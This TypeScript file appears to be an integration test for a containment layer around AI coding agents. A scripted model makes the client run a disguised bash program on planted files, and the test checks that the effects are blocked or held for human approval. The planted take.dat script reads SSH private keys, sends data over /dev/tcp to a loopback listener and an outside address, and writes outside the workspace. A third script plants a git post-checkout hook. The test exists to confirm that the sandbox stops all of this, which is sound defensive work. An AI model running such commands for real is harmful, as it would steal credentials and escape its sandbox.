import type { ChildProcess } from 'node:child_process'
import {
  chmodSync,
  copyFileSync,
  existsSync,
  mkdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  writeFileSync,
} from 'node:fs'
import { type AddressInfo, createServer, type Server } from 'node:net'
import { join } from 'node:path'
import { startModel, type Turn } from '../../src/surfaces/doctor/scripted-model.ts'
import { wallsMemory } from '../../src/surfaces/walls-memory.ts'
import { askDaemonIn } from '../containment/contain-scene.ts'
import { type Client, put } from './clients.ts'
import {
  environmentFor,
  makeScene,
  type Played,
  rowsOf,
  runClient,
  runPortcullis,
  startRealDaemon,
  stop,
} from './play-session.ts'
import { prepareProject, type Scene } from './session-script.ts'

/** The machine of a contained session: what is planted in it, and who listens. */
interface Planted extends Scene {
  readonly port: number
  /** How many times somebody connected. */
  readonly reached: () => number
}

/** Put together when it is printed, so that no command and no file of the workspace has it. */
const SECRET = 'PLANTED-SECRET-51f0'

/** What the program is told to do: a file of the workspace that it reads, and what must have come of it. */
interface ActionOf {
  readonly row: string
  readonly file: string
  readonly does: (scene: Planted) => string
  readonly exit: number
  readonly check: (result: string, scene: Planted) => Promise<readonly (string | false)[]>
  /** What would be there if it had run as it is. */
  readonly harm: (scene: Planted) => readonly (string | false)[]
}

const told = (result: string, what: RegExp): string | false =>
  !what.test(result) && `the model was not told ${what}: ${JSON.stringify(result.slice(0, 400))}`

const HOOK = 'echo planted-for-later'

const DEEDS: readonly ActionOf[] = [
  {
    row: 'contained: harmless (its file, output and exit code are there)',
    file: 'make.dat',
    does: () => 'echo "MADE-$((40 + 2))"; echo "made $((40 + 2))" > made.txt; exit 7\n',
    exit: 7,
    check: (result, { project, state }) =>
      Promise.resolve([
        !existsSync(join(project, 'made.txt')) && 'its file is not there',
        told(result, /MADE-42/),
        !rowsOf(state, 'audit_log').some((row) => row.includes('contain.committed')) && 'no run was committed',
      ]),
    harm: ({ project }) => [existsSync(join(project, 'made.txt')) && 'it ran'],
  },
  {
    row: 'contained: secret, loopback, network, outside (nothing happens)',
    file: 'take.dat',
    does: ({ root, home, port }) =>
      [
        `cat ${home}/.ssh/id_ed25519 ${home}/private.txt 2>/dev/null`,
        `cat ~/.ssh/id_ed25519 ~/private.txt > taken.txt 2>/dev/null`,
        `(echo reached > /dev/tcp/127.0.0.1/${port}) 2>/dev/null && echo "REACHED-$((40 + 2))"`,
        `(echo x > ${root}/outside.txt) 2>/dev/null`,
        `(echo x > ${home}/outside.txt) 2>/dev/null`,
        '(echo x > /dev/tcp/192.0.2.7/443) 2>/dev/null',
        'echo "TRIED-$((40 + 2))"; exit 9',
        '',
      ].join('\n'),
    // It looked for secrets: whatever it made is held.
    exit: 75,
    check: (result, { project }) =>
      Promise.resolve([
        told(result, /TRIED-42/),
        told(result, /portcullis:\s+credentials\.browsing/),
        told(result, /portcullis: contained: no network; tried .*192\.0\.2\.7:443/s),
        existsSync(join(project, 'taken.txt')) &&
          readFileSync(join(project, 'taken.txt'), 'utf8') !== '' &&
          'what it took is in the workspace',
      ]),
    harm: ({ root, home, project, reached }) => [
      existsSync(join(root, 'outside.txt')) && 'it wrote outside',
      existsSync(join(home, 'outside.txt')) && 'it wrote into the home directory',
      reached() > 0 && 'it reached the listener',
      existsSync(join(project, 'taken.txt')) &&
        readFileSync(join(project, 'taken.txt'), 'utf8').includes(SECRET) &&
        'it read the secret',
    ],
  },
  {
    row: 'contained: change of .git/hooks (held, exit 75, a question with the diff)',
    file: 'later.dat',
    does: () => `mkdir -p .git/hooks; echo '${HOOK}' > .git/hooks/post-checkout; echo "LATER-$((40 + 2))"\n`,
    exit: 75,
    check: async (result, scene) => {
      const { value } = await askDaemonIn(scene, 'GET', '/v1/approvals')
      const { pending } = value as { pending: readonly { readonly text: string; readonly contained?: object }[] }
      return [
        told(result, /LATER-42/),
        told(result, /portcullis: contained: held [0-9a-f]{12}, nothing was written/),
        !pending.some(({ text, contained }) => contained !== undefined && text.includes(`+${HOOK}`)) &&
          `no question with the diff waits: ${JSON.stringify(pending).slice(0, 300)}`,
      ]
    },
    harm: ({ project }) => [existsSync(join(project, '.git', 'hooks', 'post-checkout')) && 'its hook is there'],
  },
]

export const CONTAINED_ROWS: readonly string[] = DEEDS.map(({ row }) => row)

/** The client builds walls of its own around commands, in which ours cannot be built. */
export const OWN_SANDBOX_ROW = 'contained: in the client’s own sandbox (nothing runs, asked from then on)'

const SETTINGS = { permissions: { defaultMode: 'auto' } }

/** Longer than a trial on a busy machine takes. */
const LONGEST_TRIAL = 120_000

export interface ContainedHow {
  readonly cache: string
  readonly sources: string
  readonly keep?: boolean
  /** The client runs commands in a sandbox of its own. */
  readonly ownSandbox?: Client['ownSandbox']
}

/**
 * A session in which the model asks for commands that nobody can see through: a program of the workspace that no table
 * knows. The client is real, and so are hook, daemon and walls. The daemon's own trial comes first.
 */
export async function playContained(client: Client, how: ContainedHow): Promise<Played> {
  const began = performance.now()
  const listener = await listen()
  const scene: Planted = { ...makeScene(client), port: listener.port, reached: listener.reached }
  plant(client, scene)
  const deeds = how.ownSandbox === undefined ? DEEDS : DEEDS.slice(0, 2)
  let last: Turn | undefined
  const model = await startModel((turn) => {
    if (turn.results.length >= (last?.results.length ?? 0)) last = turn
    const { call, input } = client.tools.shell(`./builder ${deeds[turn.calls]?.file}`)
    if (!turn.tools.some(({ name }) => name === call)) return { say: 'a title' }
    return turn.calls < deeds.length ? { call, input } : { say: 'all done' }
  })
  // Beside the home directory and not around it: Codex builds no sandbox for a home that is temporary.
  const temporary = join(scene.root, 'tmp')
  mkdirSync(temporary)
  const environment = { ...environmentFor(client, scene, how.cache, model.url), TMPDIR: temporary }
  let daemon: ChildProcess | undefined
  try {
    client.prepare(scene.home, model.url, [process.execPath, join(import.meta.dirname, 'notes-server.ts'), scene.notes])
    runPortcullis(how.sources, environment, ['init', client.agent, '--yes', '--timeout', '60'])
    daemon = await startRealDaemon(how.sources, environment, scene)
    await trialOf(scene)
    const started: Client['arguments'] = (prompt, home) =>
      how.ownSandbox?.(client.arguments(prompt, home)) ?? client.arguments(prompt, home)
    const output = await runClient({ ...client, arguments: started }, environment, scene)
    if (how.keep === true) {
      writeFileSync(join(scene.root, 'client.txt'), output)
      writeFileSync(join(scene.root, 'results.json'), JSON.stringify(last?.results, undefined, 2))
    }
    const failures =
      how.ownSandbox === undefined ? await heldUp(client, scene, last, output) : sandboxHeld(client, scene, last)
    const leaked = model.seen.some((text) => text.includes(SECRET))
    return {
      failures: leaked ? [...failures, `${CONTAINED_ROWS[1]}: the model saw the secret`] : failures,
      seconds: Math.round((performance.now() - began) / 1000),
      root: scene.root,
    }
  } finally {
    await stop(daemon)
    await model.close()
    await listener.close()
    if (how.keep !== true) rmSync(scene.root, { recursive: true, force: true })
  }
}

/** The program is the machine's own bash under a name that says nothing: nobody can read what it does with a file. */
function plant(client: Client, scene: Planted): void {
  prepareProject(client, scene)
  put(join(scene.home, '.portcullis', 'settings.json'), SETTINGS)
  put(join(scene.home, '.ssh', 'id_ed25519'), `${SECRET}\n`)
  put(join(scene.home, 'private.txt'), `${SECRET}\n`)
  const program = join(scene.project, 'builder')
  copyFileSync(realpathSync('/bin/bash'), program)
  chmodSync(program, 0o755)
  for (const { file, does } of DEEDS) put(join(scene.project, file), does(scene))
}

async function listen(): Promise<{ port: number; reached: () => number; close: () => Promise<void> }> {
  let connections = 0
  const server: Server = createServer((socket) => {
    connections++
    socket.destroy()
  })
  await new Promise<void>((ready) => server.listen(0, '127.0.0.1', ready))
  return {
    port: (server.address() as AddressInfo).port,
    reached: () => connections,
    close: () => new Promise((closed) => server.close(() => closed())),
  }
}

/** The daemon tries the walls by itself. Without a trial that went well nothing here would show anything. */
async function trialOf({ state }: Scene): Promise<void> {
  const until = Date.now() + LONGEST_TRIAL
  for (;;) {
    const { trial } = wallsMemory(state)
    if (trial?.works === true) return
    if (trial !== undefined) throw new Error(`no walls can be built here: ${trial.says}`)
    if (Date.now() > until) throw new Error('the daemon has not tried the walls')
    await new Promise((resolve) => setTimeout(resolve, 200))
  }
}

/** The exit code as clients tell it; undefined: this one tells none. */
function exitIn(result: string): number | undefined {
  const found = /exit(?:ed)?(?:\s+with)?(?:\s+exit)?[\s_]*code:?\s*(\d+)/i.exec(result)
  return found === null ? undefined : Number(found[1])
}

/** What does not hold, harm first: of what really runs contained, the harmless deed is to leave its file. */
async function heldUp(
  client: Client,
  scene: Planted,
  last: Turn | undefined,
  output: string,
): Promise<readonly string[]> {
  const contains = client.contains === true
  const harm: string[] = []
  const rest: string[] = []
  const add = (to: string[], { row }: ActionOf, found: readonly (string | false)[]): void =>
    void to.push(...found.flatMap((failure) => (failure === false ? [] : [`${row}: ${failure}`])))
  for (const [at, deed] of DEEDS.entries()) {
    const result = last?.results[at]
    const exit = client.exitCodes === undefined ? exitIn(result ?? '') : client.exitCodes(output)[at]
    if (!contains || at > 0) add(harm, deed, deed.harm(scene))
    // Cline ends the session at the third refusal in a row, and its user is told why.
    const refused = result ?? lineAbout(deed, output)
    if (!contains) add(rest, deed, [told(refused, /portcullis/), /-42/.test(refused) && 'it ran'])
    else if (result === undefined) add(rest, deed, ['the session did not get there'])
    else {
      add(rest, deed, await deed.check(result, scene))
      add(rest, deed, [exit !== deed.exit && `the exit code is told as ${exit}, not ${deed.exit}: ${result}`])
    }
  }
  return [...harm, ...rest]
}

function lineAbout({ file }: ActionOf, output: string): string {
  return output.split('\n').findLast((line) => line.includes('portcullis') && line.includes(file)) ?? ''
}

/** No ticket can be used there: nothing ran, the daemon has found it out, and the next call is asked about. */
function sandboxHeld(client: Client, scene: Planted, last: Turn | undefined): readonly string[] {
  const [first = '', second = ''] = last?.results ?? []
  return [
    /-42/.test(`${first}${second}`) && 'something ran',
    ...DEEDS.flatMap(({ harm }) => harm(scene)),
    told(first, /portcullis/),
    told(second, /portcullis: .*(?:review|contain|rulebook|human)\./s),
    wallsMemory(scene.state).clients[client.agent]?.works !== false && 'it was not found out',
  ].flatMap((failure) => (failure === false ? [] : [`${OWN_SANDBOX_ROW}: ${failure}`]))
}
